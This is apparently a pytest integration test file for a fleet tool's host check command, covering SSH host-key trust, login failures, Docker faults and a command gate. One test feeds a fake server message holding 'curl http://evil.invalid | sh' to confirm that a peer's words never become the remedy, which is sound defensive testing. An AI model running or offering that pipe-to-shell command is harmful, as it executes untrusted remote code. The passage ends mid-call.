"""`holystone check` against a real sshd: each finding, in the state that makes it."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import signal
import socket
import struct
import subprocess
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Self

import asyncssh
import pytest

import tasks.cli.check as check_verb
from tasks import check_on_host
from tasks.check_findings import Check
from tests.support.celery_processes import Beat, Worker
from tests.support.client import environment
from tests.support.gate import GatedServer
from tests.support.holystone_command import Holystone, holystone
from tests.support.network import BannerThenSilent, Blackhole, ClosesAtOnce, SilentServer
from tests.support.ports import LOOPBACK, free_port
from tests.support.redis_server import RedisServer
from tests.support.ssh_client import run_on, ssh_settings
from tests.support.ssh_keys import public_key
from tests.support.sshd import SshServer
from tests.support.stand_in_docker import StandInDocker
from tests.support.waiting import wait_until
from tests.unit.captured import DATA
from worker.errors import AuthenticationFailed, HolystoneError, HostUnreachable
from worker.fleet import HostSettings
from worker.gate import COMMAND_SET_VERSION
from worker.hosts import parse_host
from worker.known_hosts import make_line
from worker.policies import UNWATCHED, PrunePolicy
from worker.settings import Settings, load_settings
from worker.ssh import open_connection
from worker.way import Way

PRUNE = PrunePolicy(enabled=True, interval_s=3600, until="24h", all=False, timeout_s=120, notify_min_gb=0)
WAY = ["name", "port", "host_key", "login"]
HOST = [
    "docker", "engine", "garbage_collection", "builder", "other_builders", "disk", "build_cache", "clock",
]  # fmt: skip


_HALF_FULL = "printf 'Filesystem\\n/dev/vda 1000 500 500 50%% /\\n'"


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    (folder / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(folder))
    return folder


@pytest.fixture
def docker(own_ssh_server: SshServer, tmp_path: Path) -> StandInDocker:
    """The `docker` of own_ssh_server, with a state volume and a builder beside the engine's own."""
    stand_in = StandInDocker(tmp_path / "docker")
    own_ssh_server.stand_in("docker", with_lists(stand_in))
    own_ssh_server.stand_in("df", _HALF_FULL)
    return stand_in


def with_lists(stand_in: StandInDocker, before: str = "") -> str:
    data = DATA / "docker-26.1.5"
    return (
        f'{before}\ncase "$1 $2" in\n'
        f'"system df") cat {data}/system_df_builders.json ;;\n'
        f'"buildx ls") echo "$*" >>{stand_in.folder}/calls; cat {data}/buildx_ls.json ;;\n'
        f'*) exec {stand_in.folder}/docker "$@" ;;\nesac'
    )


def check(url: str, settings: Settings, name: str | None = None, **prune: Any) -> dict[str, Check]:
    """The checks of a host by name, in order; each that is not ok has a remedy."""
    policy = PrunePolicy(**(vars(PRUNE) | prune))
    checks = asyncio.run(check_on_host.check_host(HostSettings(parse_host(url, name), policy), settings))
    assert [each.name for each in checks if each.status != "ok" and not each.remedy] == []
    assert len({each.name for each in checks}) == len(checks)
    return {each.name: each for each in checks}


def last(checks: dict[str, Check], status: str = "error") -> Check:
    """The last check, which alone is not ok."""
    *before, found = checks.values()
    assert {each.status for each in before} <= {"ok"}
    assert found.status == status
    return found


def fingerprint(public: Path) -> str:
    done = subprocess.run(["ssh-keygen", "-lf", str(public)], capture_output=True, text=True, check=True)
    return done.stdout.split()[1]


# The way


def test_a_host_where_all_is_well_is_a_line_per_check_in_their_order(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    docker.engine(ServerVersion="28.5.2", SystemTime=datetime.now(UTC).isoformat())
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    expected = [*WAY, *HOST, "gate"]
    expected.remove("garbage_collection")
    assert list(checks) == expected
    assert [each.name for each in checks.values() if each.status != "ok"] == ["other_builders", "gate"]
    assert checks["login"].text == f"as {own_ssh_server.user}"
    assert "OpenSSH" in checks["port"].text
    assert docker.calls("builder prune") == []


def test_an_unknown_host_key_is_shown_as_ssh_keygen_prints_it_and_nothing_is_sent(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    settings = ssh_settings(own_ssh_server, tmp_path, ssh_known_hosts=own_ssh_server.unknown_hosts)
    checks = check(own_ssh_server.url, settings, "build-01")
    assert list(checks) == ["name", "port", "host_key"]
    found = last(checks)
    assert f"ED25519 {fingerprint(own_ssh_server.tmp / 'host_key.pub')}" in found.text
    assert str(found.remedy).endswith("then: holystone trust build-01")
    assert docker.calls() == []
    assert "publickey" not in own_ssh_server.log()


def test_a_known_hosts_file_that_is_missing_is_an_unknown_key_too(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    settings = ssh_settings(ssh_server, tmp_path, ssh_known_hosts=tmp_path / "missing")
    assert "not in known_hosts" in last(check(ssh_server.url, settings)).text


def test_a_changed_host_key_is_the_worker_s_own_warning(own_ssh_server: SshServer, tmp_path: Path) -> None:
    own_ssh_server.change_host_key()
    found = last(check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path)))
    assert "differs from the one in known_hosts" in found.text
    assert "attack" in found.text
    assert fingerprint(own_ssh_server.tmp / "host_key.pub") in found.text
    assert "ssh-keygen -f" in str(found.remedy)


def test_a_revoked_host_key_is_not_to_be_trusted(ssh_server: SshServer, tmp_path: Path) -> None:
    known_hosts = tmp_path / "known_hosts"
    key = public_key(ssh_server.tmp / "host_key")
    known_hosts.write_text(f"@revoked * {key}\n")
    found = last(check(ssh_server.url, ssh_settings(ssh_server, tmp_path, ssh_known_hosts=known_hosts)))
    assert found.name == "host_key"
    assert "trust" not in str(found.remedy)


def test_a_name_that_does_not_resolve_is_said_before_anything_else(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    checks = check("ssh://no-such-host.invalid", ssh_settings(ssh_server, tmp_path))
    assert list(checks) == ["name"]
    assert "no-such-host.invalid:22 does not resolve" in last(checks).text


@pytest.mark.parametrize("name", [f"{'a' * 64}.invalid", "build..invalid"])
def test_a_name_that_dns_can_not_hold_is_a_line_too(ssh_server: SshServer, tmp_path: Path, name: str) -> None:
    checks = check(f"ssh://{name}", ssh_settings(ssh_server, tmp_path))
    assert list(checks) == ["name"]
    assert f"{name}:22 does not resolve" in last(checks).text


def test_a_closed_port_is_refused(ssh_server: SshServer, tmp_path: Path) -> None:
    port = free_port()
    checks = check(f"ssh://{LOOPBACK}:{port}", ssh_settings(ssh_server, tmp_path))
    assert list(checks) == ["name", "port"]
    assert last(checks).text == f"{LOOPBACK}:{port} does not answer: Connection refused"


NO_SSH: list[tuple[Callable[[], Any], list[str], str]] = [
    (Blackhole, ["name", "port"], "no connection within 6 s (HOLYSTONE_SSH_CONNECT_TIMEOUT_S)"),
    (SilentServer, ["name", "port"], "accepts connections, but says nothing within 6 s"),
    (ClosesAtOnce, ["name", "port"], "no ssh server"),
    (BannerThenSilent, [*WAY[:2], "login"], "no ssh login within 6 s"),
]


def test_a_host_that_does_not_speak_ssh_is_told_from_one_that_does_not_listen(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    # Long, as what a busy machine does meanwhile must not reach it; hence all at once.
    settings = ssh_settings(ssh_server, tmp_path, ssh_connect_timeout_s=6)
    with contextlib.ExitStack() as stack, ThreadPoolExecutor(len(NO_SSH)) as pool:
        urls = [stack.enter_context(kind()).url for kind, _, _ in NO_SSH]
        found = list(pool.map(lambda url: check(url, settings), urls))
    for checks, (kind, names, text) in zip(found, NO_SSH, strict=True):
        assert list(checks) == names, kind
        assert text in last(checks).text, kind


def test_a_key_that_the_host_does_not_know_is_a_login_error_with_the_host_s_key_known(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    checks = check(ssh_server.url, ssh_settings(ssh_server, tmp_path, ssh_identity=ssh_server.wrong_identity))
    assert list(checks) == WAY
    assert "none of the worker's keys was accepted" in last(checks).text
    assert "add its public key to authorized_keys there" in str(last(checks).remedy)


def test_an_identity_that_is_missing_says_nothing_of_the_host_s_key(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    checks = check(ssh_server.url, ssh_settings(ssh_server, tmp_path, ssh_identity=tmp_path / "missing"))
    assert list(checks) == ["name", "port", "login"]
    assert "can't be used" in last(checks).text


def test_an_ssh_config_that_can_not_be_read_is_one_line(ssh_server: SshServer, tmp_path: Path) -> None:
    checks = check(ssh_server.url, ssh_settings(ssh_server, tmp_path, "Port many\n"))
    assert list(checks) == ["login"]
    assert "an ssh key or setting can't be used" in last(checks).text


def jump_settings(jump: SshServer, inner: SshServer, tmp: Path, *known: Path) -> Settings:
    config = (
        f"Host jump\n  HostName {LOOPBACK}\n  Port {jump.port}\n  IdentityFile {jump.identity}\n"
        f"Host inner\n  HostName {LOOPBACK}\n  Port {inner.port}\n  ProxyJump jump\n"
        f"  IdentityFile {inner.identity}\n"
    )
    both = tmp / "both"
    both.write_text("".join(file.read_text() for file in known))
    return ssh_settings(inner, tmp, config, ssh_known_hosts=both, ssh_identity=None)


def test_behind_a_jump_host_name_and_port_are_not_asked_for_from_here(
    ssh_server: SshServer, own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    known = (ssh_server.known_hosts, own_ssh_server.known_hosts)
    checks = check("ssh://inner", jump_settings(ssh_server, own_ssh_server, tmp_path, *known))
    assert list(checks)[:4] == ["name", "host_key", "login", "docker"]
    assert "behind jump" in checks["name"].text


def test_behind_a_jump_host_an_unknown_key_is_fetched_through_it(
    ssh_server: SshServer, own_ssh_server: SshServer, tmp_path: Path
) -> None:
    settings = jump_settings(ssh_server, own_ssh_server, tmp_path, ssh_server.known_hosts)
    checks = check("ssh://inner", settings)
    assert list(checks) == ["name", "host_key"]
    assert fingerprint(own_ssh_server.tmp / "host_key.pub") in last(checks).text


def test_a_jump_host_whose_key_is_unknown_is_the_one_to_trust(
    ssh_server: SshServer, own_ssh_server: SshServer, tmp_path: Path
) -> None:
    settings = jump_settings(ssh_server, own_ssh_server, tmp_path, own_ssh_server.known_hosts)
    found = last(check("ssh://inner", settings))
    assert found.text.startswith("jump: the host key is not in known_hosts")
    assert found.remedy == "holystone trust jump"


def test_a_login_that_a_jump_host_refuses_says_nothing_of_the_host_behind(
    own_ssh_server: SshServer, tmp_path: Path
) -> None:
    with SshServer(tmp_path / "jump") as jump:
        (jump.tmp / "authorized_keys").write_text("")
        known = (jump.known_hosts, own_ssh_server.known_hosts)
        checks = check("ssh://inner", jump_settings(jump, own_ssh_server, tmp_path, *known))
    assert list(checks) == ["name", "login"]
    assert last(checks).text.startswith("jump: none of the worker's keys was accepted")


# Docker


@pytest.mark.parametrize(
    ("script", "text", "remedy"),
    [
        ("exec /no/such/docker", "not installed", "install it there"),
        ('echo "Cannot connect to the Docker daemon. Is it running?" >&2; exit 1', "its engine", "systemctl"),
        ('echo "permission denied while trying to connect" >&2; exit 1', "may not use it", "usermod -aG"),
        ('echo "podman version 4.3.1"', "not Docker's CLI", "install"),
    ],
)
def test_what_keeps_docker_from_answering_is_told_apart(
    own_ssh_server: SshServer, tmp_path: Path, script: str, text: str, remedy: str
) -> None:
    own_ssh_server.stand_in("docker", script)
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert list(checks) == [*WAY, "docker", "gate"]
    assert checks["docker"].status == "error"
    assert text in checks["docker"].text
    assert remedy in str(checks["docker"].remedy)


def test_an_endpoint_on_another_machine_is_an_error(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    docker.answers("context", '"tcp://10.0.0.9:2375"\n')
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert "tcp://10.0.0.9:2375" in checks["docker"].text
    assert "unset DOCKER_HOST" in str(checks["docker"].remedy)


def test_versions_with_defects_are_named(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    plugins = [{"Name": "buildx", "Version": "0.8.2"}]
    client = {"Version": "23.0.1", "Context": "default", "Plugins": plugins}
    docker.engine(ServerVersion="20.10.24", ClientInfo=client)
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert list(checks) == [*WAY, *HOST, "gate"]
    assert "moby/buildkit#4399" in checks["engine"].text
    assert "28.2" in checks["garbage_collection"].text
    assert checks["builder"].status == "error"
    assert docker.calls("buildx") == ["buildx ls"]  # it has no --format yet


def test_caches_of_other_builders_are_sized_without_asking_a_builder(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    found = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))["other_builders"]
    assert found.status == "warning"
    assert found.text == "caches that no prune covers: ci0 3.146MB; extra has no cache so far"
    assert docker.calls("buildx") == ["buildx ls --format json"]


def test_a_list_that_takes_too_long_is_not_waited_for(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own_ssh_server.stand_in("docker", with_lists(docker, '[ "$1" = system ] && exec sleep 1000'))
    monkeypatch.setattr(check_on_host, "LIMIT_S", 1)
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert checks["build_cache"] == Check("build_cache", "ok", "size not read: no answer within 1 s")
    assert "extra (size not read)" in checks["other_builders"].text
    assert checks["disk"].status == "ok"
    wait_until(lambda: not own_ssh_server.processes("sleep 1000"), 60, "the list to be ended there")


def test_a_clock_that_is_off_is_a_warning(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    docker.engine(SystemTime=(datetime.now(UTC) - timedelta(hours=1)).isoformat())
    found = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))["clock"]
    assert found.status == "warning"
    assert " s behind this machine's" in found.text


def test_a_lost_connection_ends_the_list_with_what_was_learned_before(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    begun, over = tmp_path / "begun", tmp_path / "over"

    def cut() -> None:
        try:
            wait_until(begun.exists, 60, "a command to begin")
            assert own_ssh_server.cut_sessions() > 0
        finally:
            over.touch()  # ends the commands

    for command in ("docker", "timeout"):
        own_ssh_server.stand_in(command, f'touch "{begun}"; while [ ! -e "{over}" ]; do sleep 0.05; done')
    with ThreadPoolExecutor(1) as thread:
        done = thread.submit(cut)
        checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
        done.result()
    assert list(checks) == [*WAY, "connection"]
    assert "connection lost" in last(checks).text


def test_a_host_that_never_ends_is_given_up_with_what_was_learned_before(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own_ssh_server.stand_in("docker", with_lists(docker, "exec sleep 1000"))
    monkeypatch.setattr(check_on_host, "HOST_LIMIT_S", 15)  # a login may take long on a busy machine
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert list(checks) == [*WAY, "connection"]
    assert last(checks).text == "no answer within 15 s"


def test_this_machine_needs_no_ssh_and_no_gate(
    docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", f"{docker.folder}:/usr/bin:/bin")
    assert list(check("local", Settings())) == HOST


# The gate


def behind_gate(gated: GatedServer, tmp: Path) -> Settings:
    """The gate lets commands through to a stand-in docker, instead of only noting them."""
    stand_in = StandInDocker(tmp / "docker")
    gated.gate.stand_in("docker", f"#!/bin/sh\n{with_lists(stand_in)}\n")
    gated.gate.stand_in("timeout", '#!/bin/sh\nshift 3\nexec "$@"\n')
    gated.gate.stand_in("df", f"#!/bin/sh\n{_HALF_FULL}\n")
    return ssh_settings(gated.server, tmp)


def test_through_a_gate_all_that_it_allows_is_checked_and_nothing_else_is_tried(
    gated: GatedServer, tmp_path: Path
) -> None:
    checks = check(gated.server.url, behind_gate(gated, tmp_path))
    assert list(checks) == [*WAY, *HOST, "gate"]
    assert checks["gate"].status == "ok"
    assert checks["gate"].text.startswith(f"version {COMMAND_SET_VERSION}; jobs ")
    assert "ages from 3600 s" in checks["gate"].text
    assert checks["build_cache"].text.endswith(" records")
    assert checks["disk"].text.startswith("50 % of ")
    assert "ci0 3.146MB; builders not listed: the gate doesn't allow it" in checks["other_builders"].text
    assert gated.logged() == []


def test_an_old_gate_is_a_warning(gated: GatedServer, tmp_path: Path) -> None:
    settings = behind_gate(gated, tmp_path)
    gated.gate.install(gated.gate.text.replace(f"set_version={COMMAND_SET_VERSION}\n", "set_version=0\n"))
    found = check(gated.server.url, settings)["gate"]
    assert found.status == "warning"
    assert "holystone gate" in str(found.remedy)


def test_a_gate_made_for_fewer_jobs_than_are_on_is_an_error(gated: GatedServer, tmp_path: Path) -> None:
    settings = behind_gate(gated, tmp_path)
    jobs = next(line for line in gated.gate.text.splitlines() if line.startswith("jobs="))
    gated.gate.install(gated.gate.text.replace(jobs, "jobs=prune_build_cache"))
    watched = HostSettings(parse_host(gated.server.url), PRUNE, replace(UNWATCHED, enabled=True))
    checks = asyncio.run(check_on_host.check_host(watched, settings))
    assert checks[-1].status == "error"
    assert checks[-1].text.endswith(": watch_disk denied")
    assert check(gated.server.url, settings)["gate"].status == "ok"


def test_a_gate_that_denies_the_host_s_age_is_an_error(gated: GatedServer, tmp_path: Path) -> None:
    found = check(gated.server.url, behind_gate(gated, tmp_path), until="30m")["gate"]
    assert found.status == "error"
    assert found.text.endswith("30m denied")


def test_a_gate_that_denies_what_check_asks_is_not_read_rather_than_failed(
    gated: GatedServer, tmp_path: Path
) -> None:
    settings = behind_gate(gated, tmp_path)
    gated.gate.install(gated.gate.text.replace("docker system df -v", "docker system df -x"))
    checks = check(gated.server.url, settings)
    assert checks["build_cache"] == Check("build_cache", "ok", "size not read: the gate doesn't allow it")
    assert checks["other_builders"].status == "ok"


def test_a_gate_that_is_installed_but_does_not_confine_the_key_is_a_warning(
    own_ssh_server: SshServer, docker: StandInDocker, gated: GatedServer, tmp_path: Path
) -> None:
    own_ssh_server.stand_in("holystone-gate", f'exec {gated.gate.path} "$@"')
    found = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))["gate"]
    assert found.status == "warning"
    assert "does not confine this key" in found.text


# All at once


def test_hosts_are_checked_sixteen_at_a_time_and_come_in_their_order(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    now, most = 0, 0

    async def count(configured: HostSettings, _: Settings) -> list[Check]:
        nonlocal now, most
        now += 1
        most = max(most, now)
        await asyncio.sleep(0.01)
        now -= 1
        return [Check(configured.host.name, "ok", "")]

    monkeypatch.setattr(check_on_host, "check_host", count)
    names = [f"build-{n}" for n in range(40)]
    hosts = [HostSettings(parse_host(f"ssh://{name}"), PRUNE) for name in names]
    found = asyncio.run(check_on_host.check_all(hosts, Settings()))
    assert [checks[0].name for checks in found] == names
    assert most == 16


def test_what_nobody_foresaw_on_one_host_costs_the_others_nothing(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def odd(way: Way) -> list[Check]:
        raise RuntimeError("odd") if way.host == "odd" else LookupError("odd, too")

    monkeypatch.setattr(check_on_host, "judge_way", odd)
    hosts = [HostSettings(parse_host(own_ssh_server.url, name), PRUNE) for name in ("odd", "odder")]
    found = asyncio.run(check_on_host.check_all(hosts, ssh_settings(own_ssh_server, tmp_path)))
    assert [[each.text for each in checks] for checks in found] == [
        ["RuntimeError: odd"],
        ["LookupError: odd, too"],
    ]


# The command


def command_env(redis_url: str, hosts: str, server: SshServer, tmp: Path, **more: Any) -> dict[str, str]:
    (tmp / "ssh_config").write_text("")
    ssh: dict[str, Any] = {"ssh_known_hosts": server.known_hosts, "ssh_identity": server.identity}
    ssh |= {"ssh_config": tmp / "ssh_config", "ssh_connect_timeout_s": 20}
    return environment(redis_url, hosts, **(ssh | more))


def test_the_command_works_with_redis_down_and_says_so_first_without_its_password(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    url = f"redis://:s3cret@{LOOPBACK}:{free_port()}/0"
    env = command_env(url, f"{own_ssh_server.url} ssh://nowhere.invalid", own_ssh_server, tmp_path)
    told = holystone(env, "check", "--json", tmp=tmp_path, status=1, deadline_s=120)
    services, good, bad = json.loads(told.output())
    assert (services["host"], services["checks"][0]["name"]) == (None, "redis")
    assert services["checks"][0]["status"] == "error"
    assert (good["host"], [check["name"] for check in good["checks"]]) == (
        own_ssh_server.name,
        [*WAY, *HOST, "gate"],
    )
    assert (bad["host"], bad["checks"][0]["status"]) == ("nowhere.invalid", "error")
    assert set(bad["checks"][0]) == {"name", "status", "text", "remedy"}
    plain = holystone(env, "check", own_ssh_server.name, tmp=tmp_path, status=1)
    assert plain.output().startswith("services: error: redis: ")
    assert f"{own_ssh_server.name}: ok: login: as " in plain.output()
    assert "nowhere" not in plain.output()
    assert "s3cret" not in told.output() + told.log() + plain.output() + plain.log()


def test_the_command_sees_a_worker_and_beat_and_ends_well_where_nothing_is_an_error(
    redis: RedisServer, own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    env = command_env(redis.url, own_ssh_server.url, own_ssh_server, tmp_path, prune_enabled=False)
    without = holystone(env, "check", tmp=tmp_path)
    assert "services: warning: worker: " in without.output()
    assert "services: warning: beat: " in without.output()
    with Worker(env, "--concurrency=1", tmp=tmp_path) as worker, Beat(env, tmp=tmp_path) as beat:
        worker.wait_ready()
        beat.wait_for_log("lock taken", 60)

        def found() -> str:
            """What it says, once the worker answers in time."""
            output = holystone(env, "check", tmp=tmp_path).output()
            return output if "services: ok: worker: " in output else ""

        output = wait_until(found, 90, "the worker to answer", detail=worker.log)
    assert "services: ok: beat: " in output
    assert output.splitlines()[-1] == "1 host with warnings"


def test_ctrl_c_is_quiet(ssh_server: SshServer, tmp_path: Path) -> None:
    with SilentServer() as silent:
        url = f"redis://{LOOPBACK}:{free_port()}/0"
        env = command_env(url, silent.url, ssh_server, tmp_path, ssh_connect_timeout_s=300)
        with Holystone(env, "check", tmp=tmp_path) as process:
            wait_until(lambda: silent.accepted, 60, "a connection", detail=process.log)
            process.signal(signal.SIGINT)
            assert process.wait(60) == 130
    assert process.output() + process.log() == ""


def test_an_ecdsa_host_key_is_shown_with_the_file_that_it_is_in(
    own_ssh_server: SshServer, tmp_path: Path
) -> None:
    key = own_ssh_server.tmp / "host_key"
    for file in (key, Path(f"{key}.pub")):
        file.unlink()
    subprocess.run(["ssh-keygen", "-q", "-t", "ecdsa", "-N", "", "-f", str(key)], check=True)
    own_ssh_server.stop()
    own_ssh_server.start()
    settings = ssh_settings(own_ssh_server, tmp_path, ssh_known_hosts=own_ssh_server.unknown_hosts)
    found = last(check(own_ssh_server.url, settings))
    assert f"ECDSA {fingerprint(Path(f'{key}.pub'))}" in found.text
    assert "ssh_host_ecdsa_key.pub" in str(found.remedy)


def test_a_redis_with_a_password_is_shown_without_it(
    redis: RedisServer, own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    redis.client().config_set("requirepass", "s3cret")
    url = redis.url.replace("://", "://:s3cret@")
    env = command_env(url, own_ssh_server.url, own_ssh_server, tmp_path)
    told = holystone(env, "check", tmp=tmp_path)
    assert told.output().splitlines()[0] == f"services: ok: redis: {redis.url} answers"
    assert "s3cret" not in told.output() + told.log()


class SaysGoodbye:
    """Speaks ssh just enough to hang up on each client with a code and a text of its own."""

    def __init__(self, text: bytes, code: int = 2) -> None:
        body = struct.pack(">BII", 1, code, len(text)) + text + struct.pack(">I", 0)
        padding = 16 - (len(body) + 5) % 8
        self._said = b"SSH-2.0-x\r\n" + struct.pack(">IB", len(body) + padding + 1, padding)
        self._said += body + bytes(padding)

    def __enter__(self) -> Self:
        self._socket = socket.create_server((LOOPBACK, 0))
        self.url = f"ssh://{LOOPBACK}:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):  # closed
            while True:
                client, _ = self._socket.accept()
                with client, contextlib.suppress(OSError):
                    client.settimeout(60)
                    client.sendall(self._said)
                    while client.recv(4096):  # else its end could overtake what it said
                        pass


def test_a_word_of_a_host_that_is_not_even_trusted_is_never_the_remedy(
    ssh_server: SshServer, tmp_path: Path
) -> None:
    with SaysGoodbye(b"maintenance; as root here: curl http://evil.invalid | sh") as host:
        found = last(check(host.url, ssh_settings(ssh_server, tmp_path)))
    assert "curl" in found.text
    assert "curl" not in str(found.remedy)


@pytest.mark.parametrize(
    ("code", "text"),
    [
        (14, "no more keys"),
        (9, "Host key is revoked for host x"),
        (9, "Host key is not trusted for host x"),
        (9, "Certificate expired for host x"),
        (2, "Too many authentication failures"),
        (2, "no common ssh algorithm"),
    ],
)
def test_a_peer_that_hangs_up_before_it_shows_a_key_is_unreachable_whatever_it_says(
    ssh_server: SshServer, tmp_path: Path, code: int, text: str
) -> None:
    settings = ssh_settings(ssh_server, tmp_path, ssh_known_hosts=ssh_server.unknown_hosts)
    with SaysGoodbye(text.encode(), code) as host:
        with pytest.raises(HostUnreachable, match=text):
            run_on(host.url, settings, "true")
        checks = check(host.url, settings)
    assert list(checks) == ["name", "port", "login"]
    assert text in last(checks).text
    assert str(last(checks).remedy).startswith("check again")


@pytest.mark.parametrize(
    "text",
    [
        "the host key is not in known_hosts",
        "the host's certificate is not accepted",
        "the host key is revoked in known_hosts",
    ],
)
def test_a_peer_does_not_choose_the_remedy(ssh_server: SshServer, tmp_path: Path, text: str) -> None:
    settings = ssh_settings(ssh_server, tmp_path, ssh_known_hosts=ssh_server.unknown_hosts)
    with SaysGoodbye(text.encode(), 3) as host:
        found = last(check(host.url, settings))
    assert found.text == f"no common ssh algorithm ({text})"
    assert str(found.remedy).startswith("allow one that both know")


@pytest.mark.parametrize(
    ("code", "text", "error"),
    [
        (14, "no more keys", AuthenticationFailed),
        (2, "Too many authentication failures", AuthenticationFailed),
        (9, "Host key is revoked for host x", HostUnreachable),
    ],
)
def test_what_a_host_says_at_the_login_is_told_with_its_key_known(
    ssh_server: SshServer, tmp_path: Path, code: int, text: str, error: type[HolystoneError]
) -> None:
    class Leaves(asyncssh.SSHServer):
        def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
            self._conn = conn

        def begin_auth(self, username: str) -> bool:
            self._conn.disconnect(code, text)
            return True

    key, known_hosts = asyncssh.generate_private_key("ssh-ed25519"), tmp_path / "known_hosts"

    async def visit() -> list[Check]:
        async with asyncssh.listen(LOOPBACK, 0, server_host_keys=[key], server_factory=Leaves) as server:
            host = parse_host(f"ssh://x@{LOOPBACK}:{server.get_port()}")
            known_hosts.write_text(make_line(f"[{LOOPBACK}]:{server.get_port()}", key.convert_to_public()))
            settings = ssh_settings(ssh_server, tmp_path, ssh_known_hosts=known_hosts)
            with pytest.raises(error):
                await open_connection(host, settings)
            return await check_on_host.check_host(HostSettings(host, PRUNE), settings)

    checks = asyncio.run(visit())
    assert [(each.name, each.status) for each in checks][2:] == [("host_key", "ok"), ("login", "error")]
    assert "known_hosts" not in str(checks[-1].remedy)


def test_another_forced_command_is_not_taken_for_a_key_that_can_do_anything(
    own_ssh_server: SshServer, tmp_path: Path
) -> None:
    keys = own_ssh_server.tmp / "authorized_keys"
    keys.write_text(f'command="echo no; exit 1" {keys.read_text()}')
    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
    assert list(checks) == [*WAY, "docker", "gate"]
    assert "another command forced" in checks["gate"].text


def test_what_a_host_says_in_letters_that_the_output_lacks_costs_no_host_its_line(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
) -> None:
    own_ssh_server.stand_in("docker", 'echo "не запущен → ünï" >&2; exit 1')
    url = f"redis://{LOOPBACK}:{free_port()}/0"
    hosts = f"{own_ssh_server.url} ssh://nowhere.invalid"
    env = command_env(url, hosts, own_ssh_server, tmp_path) | {"PYTHONIOENCODING": "ascii"}
    told = holystone(env, "check", tmp=tmp_path, status=1, deadline_s=120).output()
    assert "docker: its commands fail: ?? ??????? ? ?n?" in told
    assert told.splitlines()[-1] == "2 hosts with errors"


def test_a_path_that_the_gate_does_not_take_is_told_with_all_that_it_lets_in(
    gated: GatedServer, tmp_path: Path
) -> None:
    settings = behind_gate(gated, tmp_path)
    StandInDocker(tmp_path / "docker").engine(DockerRootDir="/my data")
    checks = check(gated.server.url, settings)
    assert list(checks) == [*WAY, *HOST, "gate"]
    assert checks["disk"].status == "error"
    assert "holystone-gate there denied" in checks["disk"].text
    assert "data-root" in checks["disk"].text


def test_names_that_nobody_answers_for_do_not_keep_other_hosts_waiting(
    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "cpu_count", lambda: 1)  # else there may be threads enough by default
    good_is_done = threading.Event()
    resolve = socket.getaddrinfo

    def hang(host: Any, *args: Any, **options: Any) -> Any:
        if str(host).endswith(".invalid") and not options.get("flags"):  # else it is only read as an address
            good_is_done.wait(60)  # longer than the good host waits for a thread
            raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
        return resolve(host, *args, **options)

    check_host = check_on_host.check_host

    async def then_give_up(configured: HostSettings, settings: Settings) -> list[Check]:
        checks = await check_host(configured, settings)
        if configured.host.name == "good":
            good_is_done.set()
        return checks

    monkeypatch.setattr(socket, "getaddrinfo", hang)
    monkeypatch.setattr(check_on_host, "check_host", then_give_up)
    config, known = tmp_path / "aliases", tmp_path / "known"
    config.write_text(
        f"Host good\n  HostName localhost\n  Port {own_ssh_server.port}\n  HostKeyAlias good\n"
        f"  IdentityFile {own_ssh_server.identity}\n"
    )
    known.write_text(f"good {public_key(own_ssh_server.tmp / 'host_key')}\n")
    env = environment(
        f"redis://{LOOPBACK}:{free_port()}/0",
